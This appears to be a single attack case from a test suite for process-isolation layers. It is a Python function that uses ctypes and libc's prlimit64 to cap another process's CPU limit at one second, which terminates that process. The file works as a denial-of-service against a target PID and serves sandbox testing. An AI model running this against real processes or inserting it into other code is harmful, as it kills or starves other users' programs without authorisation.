# C35: leaves another process no processor time, by the C library's own function
# Without layers: succeeds
import sys

RLIMIT_CPU = 0


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, second = ctypes.CDLL(None), (ctypes.c_uint64 * 2)(1, 1)
    return libc.prlimit64(facts["victim"], RLIMIT_CPU, second, None) == 0
